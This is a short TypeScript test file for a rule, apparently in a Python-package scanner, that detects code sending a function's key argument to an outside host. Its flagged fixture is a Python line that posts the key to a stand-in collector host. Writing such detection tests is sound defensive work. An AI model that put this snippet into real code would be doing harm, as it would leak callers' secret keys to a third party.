import { testRule } from '../../../../../test/builders/python-package.ts';
import { argumentExfiltration } from './rule.ts';

testRule(argumentExfiltration, {
  seen: {
    'the key of the caller':
      "import requests\ndef check(key):\n    requests.post('https://collector.example.invalid', data=key)",
  },
  unseen: {
    'to the host of the project':
      "import requests\ndef check(key):\n    requests.post('https://api.demo.invalid', data=key)",
  },
});
